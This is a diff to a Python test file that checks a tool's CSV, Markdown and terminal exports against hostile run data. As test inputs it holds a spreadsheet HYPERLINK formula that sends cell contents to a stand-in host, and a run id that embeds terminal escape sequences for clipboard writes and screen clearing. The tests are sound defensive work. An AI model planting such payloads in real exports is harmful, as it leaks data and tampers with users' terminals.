@@ -1,18 +1,21 @@
 """Exports of untrusted text: the flat CSV neutralises cells a spreadsheet would run as
-formulas (JSONL and Parquet keep the values as they are), and the Markdown export shows no
-image, link or HTML from a run's names, ids, models, reasons or text."""
+formulas (JSONL and Parquet keep the values as they are), the Markdown export shows no image,
+link or HTML from a run's names, ids, models, reasons or text, and the terminal listings print
+no escape sequence."""
 
 from __future__ import annotations
 
 import json
 
 import pandas as pd
+from analysis_fixtures import record
 from hostile import plant
 from markdown_it import MarkdownIt
 from test_debate import experiment, run
 from test_export_formats import invoke
 
 from playground.export.markdown import item_markdown, run_items
+from playground.store.importer import import_records
 from playground.store.tags import set_run_tags
 
 FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
@@ -70,3 +73,12 @@ def test_markdown_export_shows_no_image_link_or_html(store, openai_server, tmp_p
                      if t.type in ("image", "link_open", "html_inline", "html_block")]  # fmt: skip
             assert not found, text
             assert "127.0.0.1:9/item.png" in text or "imported-item.png" in text
+
+
+def test_runs_and_transcripts_listings_print_no_escape_sequence(store):
+    run_id = "run\x1b]52;c;ZXZpbA==\x07\x1b[2J"
+    import_records(store, [record(run_id, "item\x1b[31m", choice=0)])
+    for args in (["runs"], ["transcripts", run_id]):
+        out = invoke(store, *args).output
+        assert "\x1b" not in out and "\x07" not in out
+        assert "run\ufffd]52;c;ZXZpbA==" in out
